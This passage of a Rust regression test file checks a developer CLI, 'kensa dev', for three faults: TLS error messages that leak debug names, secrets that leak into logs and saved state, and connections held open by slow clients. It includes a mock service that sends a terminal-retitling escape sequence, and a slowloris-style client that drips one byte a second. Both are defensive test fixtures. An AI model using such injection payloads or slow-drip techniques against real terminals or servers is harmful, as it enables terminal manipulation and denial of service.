        ),
    ];
    for (what, config, words) in cases {
        let peer = https_provider(config);
        let url = format!("https://localhost:{}/heroku/resources", peer.port);
        let t = Test::new().write("ca.pem", trusted.pem()).write(
            harness::MANIFEST,
            https_manifest("localhost", peer.port).to_string(),
        );
        let bundle = t.path().join("ca.pem");
        let out = t
            .env("SSL_CERT_FILE", &bundle)
            .args(["test", "provision"])
            .status(1)
            .stdout_contains(&format!("TLS with {url} failed: the server"))
            .stdout_contains(words)
            .run();
        for debug in [
            "InvalidCertificate(",
            "Other(",
            "OtherError",
            "CaUsedAsEndEntity",
        ] {
            assert!(!out.stdout.contains(debug), "{what}: {}", out.stdout);
        }
    }
}

/// A provider service for `kensa dev` that quotes back every form of every secret it knows
/// (`echo.json`): in a success answer's message, in a refusal (plan `premium`, in plain
/// text with an escape sequence that retitles the terminal) and in its own log.
const ECHOING_SERVICE: &str = r#"import json, os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
ECHO = " and ".join(json.load(open("echo.json")))
class Handler(BaseHTTPRequestHandler):
    def answer(self):
        sent = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
        refused = sent.get("plan") == "premium"
        body = {"message": "you sent " + ECHO}
        if not refused:
            body.update(id="r1", config={"STUBBY_URL": "https://example.test/r1"})
        data = json.dumps(body).encode()
        if refused:
            data = ("you sent " + ECHO + " \x1b]0;pwned\x07").encode()
        self.send_response(422 if refused else 200)
        self.send_header("Content-Type", "text/plain" if refused else "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
        print("the service saw " + ECHO, flush=True)
    do_POST = do_PUT = do_DELETE = answer
    def log_message(self, *args):
        pass
ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
"#;

/// Once the console's API, kensa dev's output, and every file under `.kensa/` (the saved
/// session with its call log, the last resource) quoted what a provider echoed: the call
/// log masked the manifest's secrets only as they are (not JSON-escaped nor URL-encoded),
/// the client secret not at all, failure messages and the service's log not at all; and
/// kensa dev printed a provider's refusal with its escape sequences raw.
#[test]
fn regression_kensa_dev_kept_escaped_and_encoded_secrets_in_its_log_and_state() {
    use crate::harness::dev::{dev_command, DevProcess};
    const CLIENT_SECRET: &str = "cs-Zq8\"Wm\\3/Kx+Lp 9";
    let port = crate::harness::dev::free_port();
    let dir = tempfile::tempdir().unwrap();
    let mut manifest = crate::stub::Addon::v3().manifest(port);
    manifest["api"]["password"] = json!(NASTY_PASSWORD);
    let salt = manifest["api"]["sso_salt"].as_str().unwrap().to_owned();
    let file = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).unwrap();
    file(harness::MANIFEST, &manifest.to_string());
    file(
        ".env",
        &format!("HEROKU_CLIENT_SECRET='{CLIENT_SECRET}'\nSTUBBY_PLAIN=1\n"),
    );
    let secrets = [NASTY_PASSWORD, CLIENT_SECRET, salt.as_str()];
    let echo: Vec<String> = secrets
        .iter()
        .flat_map(|s| forms(s).into_iter().map(|(_, f)| f))
        .collect();
    file("echo.json", &json!(echo).to_string());
    file("provider.py", ECHOING_SERVICE);
    file("Procfile", "web: python3 provider.py\n");

    let mut dev = DevProcess::spawn(dev_command(dir.path(), &[]));
    dev.wait_for("the service answers on port");
    let (status, made) = dev.api("POST", "/api/provision", Some(json!({"plan": "test"})));
    assert_eq!(status, 200, "{made}");
    let (_, refused) = dev.api("POST", "/api/provision", Some(json!({"plan": "premium"})));
    dev.wait_for("provisioning failed");
    dev.wait_for("web   │ the service saw");
    let (_, calls) = dev.api("GET", "/api/calls", None);
    let calls = calls.to_string();
    assert!(calls.contains("you sent ********"), "{calls}");
    let state = dev.state().to_string();
    assert!(state.contains("you sent ********"), "{state}");
    dev.signal(libc::SIGTERM);
    dev.wait_exit();
    let printed = dev.output();
    assert!(
        printed.contains(r"\x1b]0;pwned\x07") && !printed.contains('\u{1b}'),
        "the refusal's escape sequence reached the terminal:\n{printed}"
    );

    let mut outputs = vec![
        ("the console's calls".to_owned(), calls),
        ("the console's state".to_owned(), state),
        ("the refused provision".to_owned(), refused.to_string()),
        ("kensa dev's output".to_owned(), dev.output()),
    ];
    for entry in walkdir::WalkDir::new(dir.path().join(".kensa")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let text = String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()).into_owned();
            outputs.push((entry.path().display().to_string(), text));
        }
    }
    assert!(
        outputs
            .iter()
            .any(|(what, _)| what.ends_with("session.json")),
        "the session is saved"
    );
    for (what, text) in &outputs {
        for secret in secrets {
            assert_no_form_of(secret, what, text);
        }
    }
}

/// The console of `kensa dev` bounded each read, not the request: a client sending a byte
/// of its request every second held its connection (and a thread) for as long as it liked.
/// Now the whole request has one deadline (10 s), as on every other server of kensa's, and
/// a stalled client does not keep `kensa dev` from exiting.
#[test]
fn regression_a_dripping_client_held_a_kensa_dev_console_connection() {
    use crate::harness::dev::{dev_command, DevProcess};
    use std::io::Read;
    let dir = tempfile::tempdir().unwrap();
    let port = crate::harness::dev::free_port();
    let manifest = crate::stub::Addon::v3().manifest(port);
    std::fs::write(dir.path().join(harness::MANIFEST), manifest.to_string()).unwrap();
    std::fs::write(
        dir.path().join("Procfile"),
        "web: exec python3 -m http.server --bind 127.0.0.1 $PORT\n",
    )
    .unwrap();
    let mut dev = DevProcess::spawn(dev_command(dir.path(), &[]));
    let addr = dev.console.trim_start_matches("http://").to_owned();

    // One client stalls (head begun, never ended); one drips a header byte a second.
    let mut stalled = TcpStream::connect(&addr).unwrap();
    stalled.write_all(b"GET /api/state HTTP/1.1\r\n").unwrap();
    let mut dripping = TcpStream::connect(&addr).unwrap();
    dripping
        .set_read_timeout(Some(Duration::from_millis(10)))
        .unwrap();
    dripping.write_all(b"GET /api/state HTTP/1.1\r\n").unwrap();
    let mut closed = false;
    // 40 s of dripping: the hang guard, far beyond the 10 s deadline.
    for _ in 0..40 {
        if dripping.write_all(b"X").is_err() {
            closed = true;
            break;
        }
        let mut buf = [0u8; 512];
        match dripping.read(&mut buf) {
            Ok(_) => {
                closed = true;
                break;
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => {
                closed = true;
                break;
            }
        }
        thread::sleep(Duration::from_secs(1));
    }
    assert!(
        closed,
        "the console kept a dripping client's connection open"
    );

    // The stalled one is still open on the client's side: kensa exits all the same.
    dev.signal(libc::SIGTERM);
    dev.wait_exit();
    drop(stalled);
}
